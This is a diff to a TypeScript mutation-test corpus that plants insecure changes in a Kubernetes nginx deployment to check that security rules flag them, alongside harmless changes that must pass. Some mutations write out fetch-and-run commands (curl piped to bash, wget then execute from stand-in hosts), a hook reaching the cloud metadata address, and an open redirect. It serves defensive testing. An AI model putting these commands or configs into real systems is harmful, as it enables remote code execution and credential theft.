@@ -4,9 +4,15 @@
  * none repeating rounds 5-7, each naming the resource a mandatory rule must report, and harmless changes a reviewer
  * would accept. The blind run's corpus comes first; the section marked below was written after reading the rules,
  * as further spellings of the classes the blind run exposed.
+ *
+ * Blind first run: 42 caught, 2 reported on another resource, 31 missed of 75; no harmless change reported.
+ *
+ * Dropped after reading the code, as not insecure in this product:
+ * - "HPA minimum 2 (fewer pods than zones)": the prod minimum is 2 replicas by configuration (k8s-prod-replicas); two
+ *   pods spread over two zones survive a zone's loss, and the surge-only rollout and PDB keep one serving.
  */
 import type { Mutation, Plan } from "./mutations";
-import { ctr, env, HPA, k8s, pod } from "./corpus-k8s";
+import { ctr, env, k8s, pod } from "./corpus-k8s";
 import { all, editConf } from "./round5-rt-k8s";
 
 const CONFIG_MAP = "kubernetes:core/v1:ConfigMap";
@@ -35,11 +41,6 @@ const location = (head: string, edit: (block: string) => string) => (c: string) 
 const replace1 = (from: string, to: string) => (c: string) => {
   if (!c.includes(from)) throw new Error(`no ${from}`);
   return c.split(from).join(to);
-};
-/** Inserts text before the first location of the server block. */
-const beforeFirstLocation = (text: string) => (b: string) => {
-  const i = b.indexOf("        location ");
-  return b.slice(0, i) + text + b.slice(i);
 };
 const configMap = (p: Plan, name: string, cmName: string, data: Record<string, string>) =>
   k8s(p, CONFIG_MAP, name, "workloads", { apiVersion: "v1", kind: "ConfigMap", metadata: { name: cmName, namespace: "edgestack" }, data });
@@ -172,7 +173,54 @@ export const round8NginxMutations: Mutation[] = [
 
   // ── Rollouts, spread, scaling ──
   { area: "spread", title: "nginx zone spread only a preference", expect: "workloads-nginx", apply: (p) => (pod(p, "workloads-nginx").topologySpreadConstraints[0].whenUnsatisfiable = "ScheduleAnyway") },
-  { area: "hpa", title: "HPA minimum 2 (fewer pods than zones)", expect: "workloads-app", apply: (p) => (p.inputs("workloads-app", HPA).spec.minReplicas = 2) },
+
+  // ── Written after reading the rules: further spellings of the classes the blind run exposed ──
+  { area: "tls", title: "cipher list AES256:SHA256 (static RSA through broad aliases, anonymous excluded only)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers [^;]+;/g, "ssl_ciphers AES256:SHA256:!aNULL;")) },
+  { area: "tls", title: "HIGH through ssl_conf_command CipherString", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("        ssl_protocols TLSv1.2 TLSv1.3;\n", "        ssl_protocols TLSv1.2 TLSv1.3;\n        ssl_conf_command CipherString HIGH;\n")) },
+  { area: "tls", title: "security level 1 glued to a named suite", expect: "workloads-nginx-conf", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers ([^;]+);/g, "ssl_ciphers $1@SECLEVEL=1;")) },
+  { area: "tls", title: "a 192-bit group through ssl_conf_command Groups", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("        ssl_protocols TLSv1.2 TLSv1.3;\n", "        ssl_protocols TLSv1.2 TLSv1.3;\n        ssl_conf_command Groups secp192r1:X25519;\n")) },
+  { area: "tls", title: "early data on the ALB port's default server only", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB_DEFAULT, replace1("ssl_session_tickets off;", "ssl_session_tickets off;\n        ssl_early_data on;"))) },
+  { area: "headers", title: "nosniff without always on /api/ only", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1('add_header X-Content-Type-Options "nosniff" always;', 'add_header X-Content-Type-Options "nosniff";')))) },
+  { area: "real-ip", title: "PROXY TLS listener also trusts 100.64.0.0/10", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(NLB_TLS, replace1("        set_real_ip_from 10.20.0.0/16;\n", "        set_real_ip_from 10.20.0.0/16;\n        set_real_ip_from 100.64.0.0/10;\n"))) },
+  { area: "env", title: "app trusts the VPC and all of 172.16.0.0/12", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "TRUST_PROXY_CIDRS", "10.20.0.0/16,172.16.0.0/12") },
+  { area: "env", title: "TRUST_PROXY_CIDRS of 10.0.0.0/8 from a ConfigMap key", expect: "workloads-app", apply: (p) => {
+    configMap(p, "workloads-app-settings", "app-settings", { TRUST_PROXY_CIDRS: "10.0.0.0/8" });
+    const e = ctr(p, "workloads-app").env.find((x: { name: string }) => x.name === "TRUST_PROXY_CIDRS");
+    delete e.value;
+    e.valueFrom = { configMapKeyRef: { name: "app-settings", key: "TRUST_PROXY_CIDRS" } };
+  } },
+  { area: "real-ip", title: "X-Request-ID taken from a query argument", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("proxy_set_header X-Request-ID $edge_request_id;", "proxy_set_header X-Request-ID $arg_rid;")) },
+  { area: "real-ip", title: "request-id format check widened to any non-space text (\\S)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1('"~^[A-Za-z0-9._:-]{1,128}$" $http_x_request_id;', '"~^\\S{1,128}$" $http_x_request_id;')) },
+  { area: "real-ip", title: "a client header copied into a new upstream header through a map", expect: "workloads-nginx-conf", apply: (p) =>
+    editConf(p, (c) => server(ALB, location("/api/", replace1("            proxy_set_header X-Request-ID $edge_request_id;\n", "            proxy_set_header X-Request-ID $edge_request_id;\n            proxy_set_header X-User $edge_user;\n")))(c).replace("    limit_req_status 429;\n", "    map $http_x_user $edge_user {\n        default $http_x_user;\n    }\n    limit_req_status 429;\n")) },
+  { area: "locations", title: "Upgrade passed through on / (h2c)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/", replace1("            proxy_pass http://app;\n", "            proxy_pass http://app;\n            proxy_set_header Upgrade $http_upgrade;\n            proxy_set_header Connection \"upgrade\";\n")))) },
+  { area: "locations", title: "protocol-relative open redirect (return 301 /$arg_path)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("        location = /health {", "        location = /out {\n            return 301 /$arg_path;\n        }\n        location = /health {"))) },
+  { area: "locations", title: "rewrite to a query argument", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("        location = /health {", "        location = /out {\n            rewrite ^ $arg_u redirect;\n        }\n        location = /health {"))) },
+  { area: "locations", title: "Location header from the client's Referer", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, replace1("        location = /health {", "        location = /back {\n            add_header Location $http_referer always;\n            return 302;\n        }\n        location = /health {"))) },
+  { area: "logging", title: "4xx answers left out of the access log", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("    map $status $edge_loggable {\n        default 1;\n", '    map $status $edge_loggable {\n        default 1;\n        "~^4" 0;\n')) },
+  { area: "logging", title: "access log to a file under /var/log", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("access_log /dev/stdout edge_json", "access_log /var/log/nginx/access.log edge_json")) },
+  { area: "logging", title: "log_format escape=none", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("log_format edge_json escape=json '", "log_format edge_json escape=none '")) },
+  { area: "logging", title: "access log format without the status", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1('"status":"$status",', "")) },
+  { area: "timeouts", title: "client keep-alive of 10 minutes", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("    keepalive_timeout 75s;\n", "    keepalive_timeout 10m;\n")) },
+  { area: "upstreams", title: "pod addresses cached 5 minutes", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("resolver 172.20.0.10 valid=1s ipv6=off;", "resolver 172.20.0.10 valid=5m ipv6=off;")) },
+  { area: "upstreams", title: "retry window unbounded on the API only (timeout 0)", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("proxy_next_upstream_timeout 35s;", "proxy_next_upstream_timeout 0;")))) },
+  { area: "limits", title: "WebSockets per pod just past three quarters of the worker's connections", expect: "workloads-nginx-conf", apply: (p) => editConf(p, all("limit_conn ws_per_pod 4608;", "limit_conn ws_per_pod 10000;")) },
+  { area: "limits", title: "descriptor limit lowered below the worker's connections", expect: "workloads-nginx-conf", apply: (p) => editConf(p, replace1("worker_rlimit_nofile 12352;", "worker_rlimit_nofile 4096;")) },
+  { area: "limits", title: "API's per-client connection limit replaced by the pod-wide zone", expect: "workloads-nginx-conf", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("limit_conn per_ip_connections 100;", "limit_conn ws_per_pod 100;")))) },
+  { area: "viewer-address", title: "viewer function sets the header from the viewer's own X-Real-IP", expect: "cdn-viewer-address", apply: (p) => fnCode(p, (c) => c.replace("{ value: event.viewer.ip }", "request.headers[\"x-real-ip\"] || { value: event.viewer.ip }")) },
+  { area: "env", title: "NODE_OPTIONS from an envFrom ConfigMap imports a file URL from /tmp", expect: "workloads-app-settings", apply: (p) => {
+    configMap(p, "workloads-app-settings", "app-settings", { NODE_OPTIONS: "--import=file:///tmp/patch.mjs" });
+    ctr(p, "workloads-app").envFrom = [{ configMapRef: { name: "app-settings" } }];
+  } },
+  { area: "env", title: "app preloads a relative path (-r ./hook.js)", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "NODE_OPTIONS", "-r ./hook.js") },
+  { area: "probes", title: "init container pipes a downloaded script to bash", expect: "workloads-app", apply: (p) => (pod(p, "workloads-app").initContainers = [{ ...JSON.parse(JSON.stringify(ctr(p, "workloads-app"))), name: "setup", command: ["sh", "-c", "curl -fsSL https://get.example.net/setup.sh | bash"], ports: [], livenessProbe: undefined, readinessProbe: undefined, startupProbe: undefined }]) },
+  { area: "probes", title: "app command downloads a binary, marks it executable and runs it", expect: "workloads-app", apply: (p) => (ctr(p, "workloads-app").command = ["sh", "-c", "wget -O /tmp/agent http://tools.example.net/agent && chmod +x /tmp/agent && /tmp/agent & exec node dist/server.js"]) },
+  { area: "probes", title: "nginx postStart hook opens a TCP connection to the metadata address", expect: "workloads-nginx", apply: (p) => (ctr(p, "workloads-nginx").lifecycle.postStart = { tcpSocket: { host: "169.254.169.254", port: 80 } }) },
+  { area: "env", title: "5000 WebSockets per replica (400 MiB of buffers in a 512 MiB pod)", expect: "workloads-app", apply: (p) => env(p, "workloads-app", "WS_MAX_CONNECTIONS", "5000") },
+  { area: "env", title: "WebSocket messages per second 1000 from a ConfigMap", expect: "workloads-app", apply: (p) => {
+    configMap(p, "workloads-app-settings", "app-settings", { WS_MAX_MESSAGES_PER_SECOND: "1000" });
+    ctr(p, "workloads-app").envFrom = [{ configMapRef: { name: "app-settings" } }];
+  } },
 ];
 
 export const round8NginxHarmless: { title: string; apply: (plan: Plan) => void }[] = [
@@ -199,4 +247,17 @@ export const round8NginxHarmless: { title: string; apply: (plan: Plan) => void }
     configMap(p, "workloads-app-logging", "app-logging", { LEVEL: "warn" });
     ctr(p, "workloads-app").envFrom = [{ prefix: "LOG_", configMapRef: { name: "app-logging" } }];
   } },
+  // Written after reading the rules.
+  { title: "cipher list of ECDHE AEAD aliases", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers [^;]+;/g, "ssl_ciphers ECDHE+AESGCM:ECDHE+CHACHA20;")) },
+  { title: "HIGH with static RSA and anonymous suites excluded", apply: (p) => editConf(p, (c) => c.replace(/ssl_ciphers [^;]+;/g, "ssl_ciphers HIGH:!aNULL:!kRSA:!MD5;")) },
+  { title: "key exchange pinned to X25519 and P-384", apply: (p) => editConf(p, all("        ssl_protocols TLSv1.2 TLSv1.3;\n", "        ssl_protocols TLSv1.2 TLSv1.3;\n        ssl_ecdh_curve X25519:secp384r1;\n")) },
+  { title: "access log also sent to a syslog collector in the VPC", apply: (p) => editConf(p, replace1("    access_log /dev/stdout edge_json buffer=64k flush=1s if=$edge_loggable;\n", "    access_log /dev/stdout edge_json buffer=64k flush=1s if=$edge_loggable;\n    access_log syslog:server=10.20.0.5 edge_json;\n")) },
+  { title: "the original URI passed to the app (encoded $request_uri)", apply: (p) => editConf(p, server(ALB, location("/api/", replace1("            proxy_set_header X-Request-ID $edge_request_id;\n", "            proxy_set_header X-Request-ID $edge_request_id;\n            proxy_set_header X-Original-URI $request_uri;\n")))) },
+  { title: "pod addresses re-resolved every 5 s", apply: (p) => editConf(p, replace1("resolver 172.20.0.10 valid=1s ipv6=off;", "resolver 172.20.0.10 valid=5s ipv6=off;")) },
+  { title: "client keep-alive 120 s", apply: (p) => editConf(p, replace1("    keepalive_timeout 75s;\n", "    keepalive_timeout 120s;\n")) },
+  { title: "app heap capped through NODE_OPTIONS", apply: (p) => env(p, "workloads-app", "NODE_OPTIONS", "--max-old-space-size=384") },
+  { title: "app preloads a tracing package from its image", apply: (p) => env(p, "workloads-app", "NODE_OPTIONS", "--require @opentelemetry/auto-instrumentations-node/register") },
+  { title: "WebSockets per pod lowered to 4000", apply: (p) => editConf(p, all("limit_conn ws_per_pod 4608;", "limit_conn ws_per_pod 4000;")) },
+  { title: "app WebSockets per replica lowered to 500", apply: (p) => env(p, "workloads-app", "WS_MAX_CONNECTIONS", "500") },
+  { title: "nginx postStart hook waits a second", apply: (p) => (ctr(p, "workloads-nginx").lifecycle.postStart = { sleep: { seconds: 1 } }) },
 ];
